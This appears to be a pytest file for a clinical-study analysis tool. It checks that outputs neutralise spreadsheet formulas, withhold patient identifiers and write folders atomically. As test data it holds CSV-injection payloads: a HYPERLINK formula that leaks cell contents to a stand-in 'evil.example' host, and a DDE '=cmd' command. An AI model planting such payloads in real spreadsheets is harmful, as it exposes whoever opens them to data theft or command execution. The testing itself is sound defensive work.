"""Outputs safe to open and to share (docs/security.md): no formulas, no identifiers, atomic output
folders, ``--force`` only for pofa's folders, untrusted inputs refused clearly, settings checked by
``pofa validate``."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

import pofa
from pofa.analysis import AnalysisOptions, run_analysis
from pofa.atomic import PARTIAL_MARKER, clean_leftovers, is_pofa_output, output_dir
from pofa.cli import app
from pofa.covariates import Covariate
from pofa.errors import ModelFileError, PofaError
from pofa.io.writers import csv_text, is_live_formula, neutralise, safe_frame, write_csv
from pofa.privacy import category_of_content, category_of_name, identifying_columns
from pofa.settings import Settings

runner = CliRunner(env={"COLUMNS": "250"})
ROOT = Path(__file__).resolve().parents[1]

# ------------------------------------------------------------------------------------------------------------
# Formula neutralisation (OWASP)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("-", "'-"), ("-1.5", "-1.5"), ("+3", "+3"), ("-2e-3", "-2e-3"), (".5", ".5"),
    ("mediastinum", "mediastinum"),
    ("", ""), ("a=b", "a=b"), ("'=x", "'=x"),
])
def test_neutralise_follows_owasp(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    assert not is_live_formula(neutralise(cell))


def test_safe_frame_neutralises_headers_and_text_but_not_numbers() -> None:
    frame = pd.DataFrame({"=cmd": ["=1+1", "ok", None], "n": [-1.0, 2.0, 3.0], "b": [True, False, True],
                          "s": pd.Series(["@x", "-y", "+1"], dtype="string")})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=cmd", "n", "b", "s"]
    assert out["'=cmd"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["'=cmd"].iloc[2])
    assert out["n"].tolist() == [-1.0, 2.0, 3.0] and out["b"].dtype == bool
    assert out["s"].tolist() == ["'@x", "'-y", "+1"]
    assert frame.columns[0] == "=cmd"  # the input is not modified
    assert csv_text(frame).splitlines()[0] == "'=cmd,n,b,s"


def test_write_csv_has_no_live_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame({"@h": ["=1", "-x", "-3"], "v": [-1, 2, 3]})
    write_csv(frame, tmp_path / "t.csv")
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "t.csv").read_text("utf-8"))) for c in row]
    assert cells[:2] == ["'@h", "v"] and "-3" in cells and "-1" in cells
    assert not [c for c in cells if is_live_formula(c)]


# ------------------------------------------------------------------------------------------------------------
# Identifying columns


@pytest.mark.parametrize(("header", "category"), [
    ("name", "name"), ("Patient Name", "name"), ("lastName", "name"), ("first_name", "name"),
    ("MRN", "record number"), ("medical_record_number", "record number"), ("SSN", "record number"),
    ("dob", "birth date"), ("date_of_birth", "birth date"), ("birth_date", "birth date"),
    ("address", "address"), ("zip_code", "address"), ("phone", "phone number"), ("fax", "phone number"),
    ("email", "e-mail address"), ("e-mail", "e-mail address"), ("notes", "free text"),
    ("comment", "free text"), ("ip_address", "web or IP address"),
    ("age", None), ("sex", None), ("ecog", None), ("ldh_elevated", None), ("histology", None),
    ("bridging_rt", None), ("surface_area", None), ("platelets", None),
])
def test_identifying_headers(header: str, category: str | None) -> None:
    assert category_of_name(header) == category


@pytest.mark.parametrize(("values", "category"), [
    (["anna@example.org", "bob@example.com"], "e-mail address"),
    (["+49 30 1234567", "(555) 123-4567"], "phone number"),
    (["123-45-6789", "987-65-4321"], "record number"),
    (["Smith, John", "Doe, Jane", "Miller, Ann"], "name"),
    (["Johanna Testperson", "Max Mustermann"], "name"),
    (pd.Series([12345678, 23456789, 34567890], dtype="Int64"), "record number"),
    (["00123456", "00234567"], "record number"),
    (["seen in clinic, daughter called about the scan results", "lives alone; prefers morning calls at home"],
     "free text"),
    (["2019-03-14", "14/03/2019"], None), (["M", "F", "M"], None), (["DLBCL", "FL", "DLBCL"], None),
    (pd.Series([61, 72, 55], dtype="Int64"), None), (pd.Series([1.5, 2.5]), None),
])
def test_identifying_content(values: object, category: str | None) -> None:
    assert category_of_content(pd.Series(values)) == category


def test_format_columns_are_never_withheld_and_declared_covariates_are_kept() -> None:
    frame = pd.DataFrame({"patient_id": ["A", "B"], "lesion_id": ["Smith, John", "Doe, Jane"],
                          "site": ["Smith, John", "Doe, Jane"], "notes": ["x", "y"], "mrn": [1, 2]})
    cols = identifying_columns({"lesions": frame}, {"lesions": list(frame.columns)}, Settings())
    assert {c.column for c in cols} == {"notes", "mrn"}  # site, lesion_id, patient_id: columns of the format
    kept = Settings(covariates=(Covariate("notes", "patients"),))
    cols = identifying_columns({"patients": frame}, {"patients": ["notes", "mrn"]}, kept)
    assert [c.column for c in cols] == ["mrn"]


# ------------------------------------------------------------------------------------------------------------
# The whole command: every file of the output folder and the command's output


NAMES = ["Johanna Testperson", "Maximilian Mustermann", "Erika Beispiel", "Karl Probe", "Olga Muster"]
MRNS = ["MRN99887711", "MRN99887722", "MRN99887733", "MRN99887744", "MRN99887755"]
BIRTHS = ["1951-07-23", "1948-02-29", "1960-11-05", "1939-12-31", "1972-06-15"]
NOTES = ["lives on Elm Street with daughter Clara", "prefers calls before noon, wife Ingrid",
         "transferred from St Hedwig hospital", "neighbour Brunhilde brings him", "travels from Oberammergau"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)",
            "+1+2", "-2+3"]


def hostile_study(folder: Path) -> Path:
    """The example study plus a name, an MRN, a birth date, notes, an e-mail column, formula cells and a
    formula header."""
    p = pd.read_csv(folder / "patients.csv", dtype=str, keep_default_na=False)
    n = len(p)
    p["patient_name"] = NAMES[:n]
    p["mrn"] = MRNS[:n]
    p["birth_date"] = BIRTHS[:n]
    p["notes"] = NOTES[:n]
    p["contact"] = [f"person{i}@hospital.example" for i in range(n)]
    p["histology"] = PAYLOADS[:n]
    p['=HYPERLINK("http://evil.example","x")'] = ["yes", "no", "yes", "no", "yes"][:n]
    p.to_csv(folder / "patients.csv", index=False)
    les = pd.read_csv(folder / "lesions.csv", dtype=str, keep_default_na=False)
    les.loc[0, "site"] = "=2+5"
    les.loc[1, "site"] = "@A1"
    les.to_csv(folder / "lesions.csv", index=False)
    return folder


def _spreadsheet_cells(path: Path) -> list[str]:
    """Every text cell of a CSV file, or of an XLSX workbook's sheets (shared and inline strings)."""
    if path.suffix == ".csv":
        return [c for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for c in row]
    cells: list[str] = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            xml = z.read(name).decode("utf-8")
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", xml), f"{path.name}:{name} holds a formula"
                cells += [_unxml(t) for t in re.findall(r"<is><t[^>]*>([^<]*)</t></is>", xml)]
            if name == "xl/sharedStrings.xml":
                cells += [_unxml(t) for t in re.findall(r"<t[^>]*>([^<]*)</t>", xml)]
    return cells


def _unxml(text: str) -> str:
    return (text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&apos;", "'")
            .replace("&amp;", "&"))


def _all_text(folder: Path) -> dict[str, str]:
    """Every file of the output folder as text (XLSX: its unzipped XML; PNG: its bytes as Latin-1)."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if not p.is_file():
            continue
        rel = p.relative_to(folder).as_posix()
        if p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                out[rel] = "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
        else:
            out[rel] = p.read_bytes().decode("latin-1") if p.suffix == ".png" else p.read_text("utf-8")
    return out


def test_analyze_output_holds_no_identifier_and_no_formula(example_study: Path, tmp_path: Path) -> None:
    study = hostile_study(example_study)
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "COLUMNS": "200"}
    run = subprocess.run([sys.executable, "-m", "pofa", "analyze", str(study), "--out", str(out)],
                         capture_output=True, text=True, env=env, timeout=600)
    assert run.returncode == 0, run.stderr
    log = run.stdout + run.stderr
    texts = _all_text(out)
    kinds = {Path(k).suffix for k in texts}
    assert {".csv", ".xlsx", ".html", ".json", ".svg"} <= kinds
    identifiers = [*NAMES, *MRNS, *BIRTHS, *NOTES, "hospital.example", "Elm Street", "1951", "99887711"]
    for what in identifiers:
        assert what not in log, f"the command's output shows {what!r}"
        for name, text in texts.items():
            assert what not in text, f"{name} holds {what!r}"
    # patient-level tables carry study sequence numbers, not the study's ids
    for name in ("patients.csv", "lesions.csv", "failures.csv"):
        cells = set(_spreadsheet_cells(out / name))
        assert not cells & {"P001", "P002", "P003", "P004", "007"}, name
    # no cell any spreadsheet would run, in any CSV or XLSX of the folder (headers included)
    sheets = [p for p in out.rglob("*") if p.suffix in (".csv", ".xlsx")]
    assert any(p.suffix == ".xlsx" for p in sheets)
    for path in sheets:
        live = [c for c in _spreadsheet_cells(path) if is_live_formula(c)]
        assert not live, f"{path.name}: {live[:3]}"
    # the payloads are there, neutralised, where the analysis keeps them
    lesions = (out / "lesions.csv").read_text("utf-8")
    assert "'=2+5" in lesions and "'@A1" in lesions
    table1 = _spreadsheet_cells(out / "tables" / "table1_cohort.xlsx") if (
        out / "tables" / "table1_cohort.xlsx").is_file() else []
    header_payload = '\'=hyperlink("http://evil.example","x")'  # headers are read in lower case
    assert header_payload in _spreadsheet_cells(out / "patients.csv")
    assert not table1 or any(header_payload in c.lower() for c in table1)
    # the manifest and results.json record which columns were withheld, by name
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    withheld = {(c["table"], c["column"]) for c in manifest["privacy"]["withheld_columns"]}
    assert withheld == {("patients", c) for c in ("patient_name", "mrn", "birth_date", "notes", "contact")}
    assert json.loads((out / "results.json").read_text("utf-8"))["privacy"]["withheld_columns"] == \
        manifest["privacy"]["withheld_columns"]


def test_validate_warns_per_identifying_column(example_study: Path) -> None:
    report = pofa.load_study(hostile_study(example_study)).validate()
    found = {f.column: f for f in report.findings if f.code == "identifying-column"}
    assert set(found) == {"patient_name", "mrn", "birth_date", "notes", "contact"}
    for column, f in found.items():
        assert f.severity.value == "warning" and f.file == "patients.csv"
        assert f"[covariates.{column}]" in f.hint
    res = runner.invoke(app, ["validate", str(example_study), "--json"])
    assert res.exit_code == 1  # warnings only
    assert "Johanna" not in res.stdout and "MRN998877" not in res.stdout


def test_identifying_columns_found_once_and_redone_for_other_settings(example_study: Path) -> None:
    """The study keeps what its check found; the analysis withholds the same columns without a second tally,
    and settings other than the study's own get their own answer."""
    study = pofa.load_study(hostile_study(example_study))
    frames = {"patients": study.patients, "lesions": study.lesions, "failures": study.failures}
    fresh = identifying_columns(frames, {t: study.covariates(t) for t in frames}, study.settings)
    assert study.identifying_columns() == fresh
    assert {c.column for c in fresh} == {"patient_name", "mrn", "birth_date", "notes", "contact"}
    result = run_analysis(study)
    assert {c.column for c in result.withheld} == {c.column for c in fresh}
    assert "notes" not in result.patients.columns
    kept = Settings(covariates=(Covariate("notes", "patients"),))
    assert {c.column for c in study.identifying_columns(kept)} == {"patient_name", "mrn", "birth_date",
                                                                    "contact"}
    again = run_analysis(study, AnalysisOptions(settings=kept))
    assert {c.column for c in again.withheld} == {"patient_name", "mrn", "birth_date", "contact"}


# ------------------------------------------------------------------------------------------------------------
# Settings checked by validate exactly as the analysis uses them


@pytest.mark.parametrize(("toml", "key", "text"), [
    ('[risk_factors]\npatient = ["nosuchcov"]\n', "risk_factors.patient", "nosuchcov"),
    ('[risk_factors]\nlesion = ["diameter_cm>=abc"]\n', "risk_factors.lesion", "diameter_cm>=abc"),
    ('[risk_factors]\nlesion = ["nosuch>=5"]\n', "risk_factors.lesion", "nosuch"),
    ('[risk_factors]\nlesion = ["site"]\n', "risk_factors.lesion", "holds text"),
    ('[risk_factors]\npatient = ["any nosuch>=5"]\n', "risk_factors.patient", "nosuch"),
    ('[risk_factors]\npatient = ["sex"]\n', "risk_factors.patient", "holds text"),
    ('[risk_factors]\npatient = ["a b"]\n', "risk_factors.patient", "neither"),
])
def test_validate_checks_risk_factors(example_study: Path, toml: str, key: str, text: str) -> None:
    (example_study / "study.toml").write_text(toml, encoding="utf-8")
    report = pofa.load_study(example_study).validate()
    [f] = [f for f in report.findings if f.code == "bad-setting"]
    assert (f.file, f.column, f.severity.value) == ("study.toml", key, "error")
    assert text in f.message and f.hint
    res = runner.invoke(app, ["analyze", str(example_study), "--out", str(example_study.parent / "o")])
    assert res.exit_code == 2 and "study.toml" in res.output


@pytest.mark.parametrize("toml", ['[risk_factors]\npatient = ["age", "any suvmax>=10", "pfs_months"]\n',
                                  '[risk_factors]\nlesion = ["suvmax/sd", "diameter_cm>=5", "extranodal"]\n',
                                  '[risk_factors]\npatient = ["any_diameter_cm_ge_5", "n_lesions"]\n'])
def test_usable_risk_factors_pass(example_study: Path, toml: str) -> None:
    (example_study / "study.toml").write_text(toml, encoding="utf-8")
    assert not [f for f in pofa.load_study(example_study).validate().findings if f.code == "bad-setting"]


@pytest.mark.parametrize("text", ["age", "any diameter_cm>=5", " any suvmax >= 1e1 ", "any x>=abc", "a b",
                                  "any x>=1.5.5", "_x", "9x", "any  y >= -3"])
def test_patient_term_parser_agrees_with_the_analysis(text: str) -> None:
    from pofa.errors import SettingsError
    from pofa.settings_check import parse_patient_term
    from pofa.stats.study_stats import PatientTerm

    try:
        want = PatientTerm.parse(text)
    except SettingsError:
        with pytest.raises(SettingsError):
            parse_patient_term(text)
        return
    got = parse_patient_term(text)
    assert (got.text, got.lesion_column) == (want.text, want.lesion_column)


# ------------------------------------------------------------------------------------------------------------
# Output folders: --force, leftovers, the swap


def test_force_replaces_only_pofa_folders(tmp_path: Path) -> None:
    target = tmp_path / "out"
    target.mkdir()
    (target / "thesis.docx").write_text("years of work", encoding="utf-8")
    with pytest.raises(PofaError, match="not written by pofa"), output_dir(target, True, is_pofa_output):
        pass
    assert (target / "thesis.docx").read_text(encoding="utf-8") == "years of work"
    (target / "manifest.json").write_text('{"manifest_version": 1, "pofa_version": "0", "files": '
                                          '[{"path": "a.csv"}]}', encoding="utf-8")
    assert not is_pofa_output(target)  # thesis.docx is not listed
    (target / "thesis.docx").rename(target / "a.csv")
    assert is_pofa_output(target)
    with output_dir(target, True, is_pofa_output) as tmp:
        (tmp / "b.csv").write_text("x", encoding="utf-8")
    assert sorted(p.name for p in target.iterdir()) == ["b.csv"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    for bad in ('{"files": []}', "[1]", "{", '{"manifest_version": 1, "pofa_version": "0", "files": [1]}'):
        (target / "manifest.json").write_text(bad, encoding="utf-8")
        assert not is_pofa_output(target)


def test_leftovers_of_killed_runs_are_removed_and_nothing_else(tmp_path: Path) -> None:
    target = tmp_path / "out"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True).stdout.strip()
    partial = tmp_path / ".out.abc123.partial"  # a run killed while writing
    partial.mkdir()
    (partial / PARTIAL_MARKER).write_text(dead, encoding="ascii")
    (partial / "patients.csv").write_text("patient_seq\n1\n", encoding="utf-8")
    old = tmp_path / ".out.old-99999"  # an old output swapped aside (pofa's manifest inside)
    old.mkdir()
    (old / "manifest.json").write_text('{"manifest_version": 1, "pofa_version": "0", "files": []}', "utf-8")
    alive = tmp_path / ".out.live.partial"  # a run still writing (this process)
    alive.mkdir()
    (alive / PARTIAL_MARKER).write_text(str(os.getpid()), encoding="ascii")
    foreign = tmp_path / ".out.mine.partial"  # named alike but not pofa's: kept
    foreign.mkdir()
    (foreign / "data.txt").write_text("mine", encoding="utf-8")
    other = tmp_path / ".other.x.partial"
    other.mkdir()
    (other / PARTIAL_MARKER).write_text(dead, encoding="ascii")
    removed = clean_leftovers(target)
    assert sorted(p.name for p in removed) == [".out.abc123.partial", ".out.old-99999"]
    assert alive.is_dir() and foreign.is_dir() and other.is_dir()


def test_symbolic_link_as_output_is_refused(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with pytest.raises(PofaError, match="symbolic link"), output_dir(tmp_path / "link"):
        pass
    assert (tmp_path / "link").is_symlink() and not any((tmp_path / "real").iterdir())


def test_failed_build_leaves_the_previous_output(tmp_path: Path) -> None:
    target = tmp_path / "out"
    with output_dir(target) as tmp:
        (tmp / "a.txt").write_text("first", encoding="utf-8")
    with pytest.raises(RuntimeError), output_dir(target, force=True) as tmp:
        (tmp / "a.txt").write_text("second", encoding="utf-8")
        raise RuntimeError("boom")
    assert (target / "a.txt").read_text(encoding="utf-8") == "first"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


# ------------------------------------------------------------------------------------------------------------
# Files that are not regular files


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
@pytest.mark.parametrize("name", ["failures.csv", "patients.csv", "study.toml"])
def test_fifo_inputs_are_refused(example_study: Path, name: str) -> None:
    (example_study / name).unlink()
    os.mkfifo(example_study / name)
    report = pofa.load_study(example_study).validate()
    assert report.errors
    assert any(f.file == name and "regular file" in f.message for f in report.errors), report.errors


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_or_folder_model_is_refused(tmp_path: Path) -> None:
    from pofa.riskmodel.fileio import load_model

    os.mkfifo(tmp_path / "model.json")
    (tmp_path / "dir.json").mkdir()
    for p in (tmp_path / "model.json", tmp_path / "dir.json"):
        with pytest.raises(ModelFileError, match="regular file|a folder"):
            load_model(p)


def test_directory_as_table_is_refused(example_study: Path) -> None:
    (example_study / "failures.csv").unlink()
    (example_study / "failures.csv").mkdir()
    report = pofa.load_study(example_study).validate()
    assert [(f.code, f.file) for f in report.errors] == [("unreadable-file", "failures.csv")]
